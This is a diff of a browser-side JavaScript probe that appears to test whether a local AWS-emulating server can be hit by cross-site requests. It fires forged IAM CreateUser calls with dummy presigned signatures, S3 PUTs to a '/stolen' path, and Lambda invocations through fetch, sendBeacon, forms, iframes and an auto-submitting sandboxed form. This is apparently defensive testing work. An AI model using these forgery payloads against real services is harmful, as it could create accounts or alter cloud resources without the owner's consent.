@@ -16,6 +16,7 @@ const presigned =
   "X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Date=20260101T000000Z&X-Amz-Expires=900&X-Amz-SignedHeaders=host&X-Amz-Signature=00" +
   "&X-Amz-Credential=AKIA%2F20260101%2Fus-east-1%2F";
 const createUser = `Action=CreateUser&Version=2010-05-08&UserName=`;
+const signed = `/?${presigned}iam%2Faws4_request`;
 const user = (name) => `${createUser}${name}&${presigned}iam%2Faws4_request`;
 const results = {};
 
@@ -55,14 +56,14 @@ await attempt("fetch", () => ask("/", { method: "POST", headers: target, body: t
 await attempt("fetch without preflight", () => ask("/", { method: "POST", headers: { "Content-Type": "text/plain" }, body: table }));
 await attempt("fetch without cors", () => ask("/", { method: "POST", mode: "no-cors", headers: target, body: table }));
 await attempt("fetch with credentials", () => ask("/", { method: "POST", credentials: "include", body: table }));
-await attempt("fetch without referrer", () => ask("/", { method: "POST", mode: "no-cors", referrerPolicy: "no-referrer", body: createUser + "a" }));
+await attempt("fetch without referrer", () => ask(signed, { method: "POST", mode: "no-cors", referrerPolicy: "no-referrer", headers: { "Content-Type": "application/x-www-form-urlencoded" }, body: createUser + "a" }));
 await attempt("read", () => ask("/", {}));
 await attempt("read health", () => ask("/health", {}));
 await attempt("get an action", () => ask(`/?${user("b")}`, { mode: "no-cors" }));
 await attempt("get an action without referrer", () => ask(`/?${user("c")}`, { mode: "no-cors", referrerPolicy: "no-referrer" }));
 await attempt("post an action", () =>
-  ask("/", { method: "POST", mode: "no-cors", headers: { "Content-Type": "application/x-www-form-urlencoded" }, body: user("d") }));
-await attempt("beacon", () => String(navigator.sendBeacon(server + "/", new URLSearchParams(user("e")))));
+  ask(signed, { method: "POST", mode: "no-cors", headers: { "Content-Type": "application/x-www-form-urlencoded" }, body: createUser + "d" }));
+await attempt("beacon", () => String(navigator.sendBeacon(server + signed, new URLSearchParams(createUser + "e"))));
 await attempt("put an object", () => ask("/stolen/key", { method: "PUT", mode: "cors", body: "x" }));
 await attempt("put a bucket", () => ask(`/stolen?${presigned}s3%2Faws4_request`, { method: "PUT" }));
 await attempt("invoke", () => ask("/2015-03-31/functions/f/invocations", { method: "POST", mode: "no-cors", body: "{}" }));
@@ -72,11 +73,11 @@ await attempt("style", () => element("link", { rel: "stylesheet", href: `${serve
 await attempt("frame", () => element("iframe", { src: `${server}/?${user("i")}` }));
 await attempt("prefetch", () => element("link", { rel: "prefetch", href: `${server}/?${user("j")}` }));
 await attempt("form by GET", () => submit("GET", "application/x-www-form-urlencoded", "/", fields(user("k"))));
-await attempt("form by POST", () => submit("POST", "application/x-www-form-urlencoded", "/", fields(user("l"))));
+await attempt("form by POST", () => submit("POST", "application/x-www-form-urlencoded", signed, fields(createUser + "l")));
 await attempt("form as text", () => submit("POST", "text/plain", "/", { [table]: "" }));
 await attempt("form of S3", () => submit("POST", "multipart/form-data", "/stolen", { key: "k", file: "x" }));
 await attempt("sandboxed frame", () =>
-  element("iframe", { sandbox: "allow-scripts allow-forms", srcdoc: `<form method=POST action="${server}/"><input name=Action value=CreateUser><input name=Version value=2010-05-08><input name=UserName value=m></form><script>document.forms[0].submit()</script>` }).then(
+  element("iframe", { sandbox: "allow-scripts allow-forms", srcdoc: `<form method=POST action="${server}${signed.replaceAll("&", "&amp;")}"><input name=Action value=CreateUser><input name=Version value=2010-05-08><input name=UserName value=m></form><script>document.forms[0].submit()</script>` }).then(
     () => new Promise((resolve) => setTimeout(() => resolve("sent"), 500)),
   ));
 await attempt("WebSocket", () =>
